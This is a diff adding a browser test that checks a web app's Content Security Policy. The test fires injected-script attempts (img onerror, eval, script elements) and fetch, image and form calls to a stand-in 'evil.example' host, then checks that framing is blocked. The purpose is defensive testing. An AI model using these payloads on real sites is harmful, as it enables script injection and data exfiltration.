@@ -52,6 +52,49 @@ def fetched(page: Page, url: str, **options: Any) -> dict[str, Any]:
     return found
 
 
+def test_markup_that_gets_into_the_page_does_nothing(browser: Browser, elsewhere: int, tmp_path: Path) -> None:
+    """What the policy is for: as if a fault of the page had let a stranger's markup in, and a frame around the page."""
+    process = start(tmp_path, models=("shout",))
+    page, frame = browser.open(process.url), None
+    try:
+        page.wait_text("#connection", "Live")
+        away = f"http://evil.example:{elsewhere}/?stolen"
+        form = f"const form = Object.assign(document.createElement('form'), {{action: '{away}'}}); document.body.append(form)"
+        for attempt in (
+            "document.body.innerHTML += '<img src=x onerror=window.hacked=1>'",
+            "eval('window.hacked=1')",
+            "setTimeout('window.hacked=1')",
+            "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked=1'}))",
+            f"fetch('{away}').catch(() => 0)",
+            f"document.body.append(Object.assign(new Image(), {{src: '{away}'}}))",
+            f"{form}; form.submit()",
+            f"document.head.prepend(Object.assign(document.createElement('base'), {{href: '{away}'}}))",
+        ):
+            script = f"(() => {{ try {{ {attempt}; }} catch (error) {{ return String(error); }} }})()"
+            page.send("Runtime.evaluate", expression=script, allowUnsafeEvalBlockedByCSP=False)
+        page.pump(0.5)
+        assert page.run("window.hacked") is None
+        assert page.run("document.baseURI").startswith(process.url)
+        assert page.run("location.href").startswith(process.url)
+        stopped = {each.split(" ")[0] for each in page.run("window.violations")}
+        assert {"require-trusted-types-for", "connect-src", "img-src", "form-action", "base-uri"} <= stopped, stopped
+
+        frame = browser.open(f"http://evil.example:{elsewhere}/")
+        frame.wait("document.title === 'elsewhere'")
+        frame.run(f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{process.url}'}}))")
+        for _ in range(100):
+            said = [event["params"]["entry"]["text"] for event in browser.events if event["method"] == "Log.entryAdded"]
+            if any("frame-ancestors" in text for text in said):
+                break
+            frame.pump(0.1)
+        assert any("frame-ancestors" in text for text in said), said
+    finally:
+        page.close()
+        if frame is not None:
+            frame.close()
+        process.stop()
+
+
 def counted(process: Process, **headers: str) -> int:
     (model,) = httpx.get(f"{process.url}/v2/fleet/models", headers=headers).json()["models"]
     successes: int = model["counts"]["success"] + model["counts"]["failed"]
